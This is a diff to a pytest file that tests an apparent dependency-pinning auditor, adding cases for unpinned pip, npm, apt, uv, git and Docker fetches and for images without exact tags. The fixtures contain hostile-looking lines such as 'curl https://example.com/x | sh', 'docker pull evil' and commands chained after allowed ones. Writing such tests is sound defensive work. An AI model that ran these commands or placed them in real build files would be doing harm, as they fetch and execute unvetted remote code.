@@ -171,7 +171,14 @@ def test_a_file_that_can_not_be_audited_fails_without_a_service_too(tmp_path: Pa
 @pytest.fixture(scope="module")
 def _copied(tmp_path_factory: pytest.TempPathFactory) -> Path:
     root = tmp_path_factory.mktemp("copied")
-    for name in ("Makefile", "Procfile", "Dockerfile", "app.json", *(each.name for each in ROOT.glob("requirements*.*"))):
+    for name in (
+        "Makefile",
+        "Procfile",
+        "Dockerfile",
+        "app.json",
+        "compose.yaml",
+        *(each.name for each in ROOT.glob("requirements*.*")),
+    ):
         shutil.copy(ROOT / name, root / name)
     for folder in (".ci", "scripts", "requirements-sdks", "static/vendor"):
         shutil.copytree(ROOT / folder, root / folder)
@@ -228,6 +235,19 @@ def other_version(root: Path) -> None:
     path.write_text(path.read_text().replace('"version": "2.0.11"', '"version": "2.0.12"'))
 
 
+BASE = "python:3.11.16-slim-trixie"
+CLEAN = " && /opt/venv/bin/pip uninstall"  # of the Dockerfile
+
+
+def run_by(command: str) -> tuple[Callable[[Path], None], str]:
+    """A line of a script, which is what is told of."""
+    return appended(".ci/run", f"{command}\n"), f"fetches what nothing pins: {command}"
+
+
+def image(file: str, old: str, new: str, told: str) -> tuple[Callable[[Path], None], str]:
+    return replaced(file, old, new), f"an image without an exact tag: {told}"
+
+
 BROKEN: dict[str, tuple[Callable[[Path], None], str]] = {
     "no hash": (appended("requirements.txt", "evil==1.0\n"), "requirements.txt:"),
     "no version": (appended("requirements.txt", f"evil {HASH}\n"), "not one version with its SHA-256: evil"),
@@ -244,6 +264,27 @@ BROKEN: dict[str, tuple[Callable[[Path], None], str]] = {
     "from the web": (appended("Procfile", "web2: curl https://example.com/x | sh\n"), "Procfile:"),
     "by npx": (appended("scripts/test-needs", "npx evil\n"), "scripts/test-needs:"),
     "before the tests": (appended(".ci/run", "pip install \\\n  evil\n"), ".ci/run:"),
+    "pip with an option": run_by("pip --quiet install evil"),
+    "pip as a module": run_by("python3 -m pip -q install evil"),
+    "pip with an index": run_by("pip3.11 --index-url https://example.com install evil"),
+    "pip download": run_by("pip download evil"),
+    "pip as a list": (appended("Dockerfile", 'RUN ["pip", "install", "evil"]\n'), "Dockerfile:"),
+    "a second install of a line": (replaced("Dockerfile", CLEAN, f" && pip install evil{CLEAN}"), "pins: pip install evil"),
+    "another command's hashes": (appended(".ci/run", "pip install evil; : --only-binary :all: --require-hashes\n"), ": pip"),
+    "behind what is allowed": (replaced("scripts/test-needs", "command -v curl", "command -v curl && curl evil"), "curl evil"),
+    "a tool of uv": run_by("uv tool install evil"),
+    "a package of npm": run_by("npm --silent install evil"),
+    "a package of Debian": run_by("apt-get -qq install -y evil"),
+    "a repository": run_by("git -C /tmp clone https://example.com/evil"),
+    "an image that is pulled": run_by("docker pull evil"),
+    "an address in an image": (appended("Dockerfile", "ADD https://example.com/evil /evil\n"), "pins: ADD https://example.com/evil"),
+    "an address with options": (appended("Dockerfile", "ADD --chmod=755 https://example.com/evil /evil\n"), "pins: ADD --chmod"),
+    "a major version": image("Dockerfile", BASE, "python:3", "python:3"),
+    "a minor version": image("Dockerfile", BASE, "python:3.11-slim", "python:3.11-slim"),
+    "an image beside it": image("Dockerfile", "FROM ${BASE} AS", "FROM --platform=linux/amd64 alpine AS", "alpine"),
+    "an image copied from": image("Dockerfile", "COPY --from=build", "COPY --from=evil:1", "evil:1"),
+    "an image of compose": image("compose.yaml", "image: postgres:17.", "image: postgres:17 # ", "postgres:17"),
+    "one of compose without a tag": image("compose.yaml", "image: redis:", "image: redis # ", "redis"),
     "any image": (replaced("Dockerfile", "python:3.11.16-slim-trixie", "python:latest"), "an image without an exact tag"),
     "a changed file": (appended(f"static/vendor/{SPRITE}", " "), f"static/vendor/{SPRITE}: not the file that was recorded"),
     "an added file": (appended("static/vendor/htmx-2.0.11/more.js", "x"), "more.js: nothing is recorded of it"),
